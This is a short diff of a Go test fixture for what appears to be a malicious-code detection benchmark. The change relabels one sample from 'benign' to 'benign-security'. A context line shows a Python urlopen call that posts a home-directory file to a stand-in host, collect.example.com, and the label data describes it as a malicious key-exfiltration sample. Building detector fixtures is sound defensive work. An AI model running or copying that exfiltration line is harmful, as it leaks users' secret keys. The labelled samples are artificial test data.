@@ -24,7 +24,7 @@ urllib.request.urlopen("http://collect.example.com/", data=open(os.path.expandus
 
 var smallSet = map[string]string{
 	"labels.jsonl": `{"id":"p1","label":"malicious","language":"python","file":"health.py","technique":"T1041","difficulty":"blatant","harm":"posts a key"}
-{"id":"p2","label":"benign","language":"python","file":"health.py","difficulty":"subtle","harm":"none"}
+{"id":"p2","label":"benign-security","language":"python","file":"health.py","difficulty":"subtle","harm":"none"}
 `,
 	"p1/base/main.py":   "print(1)\n",
 	"p1/head/main.py":   "print(1)\n",
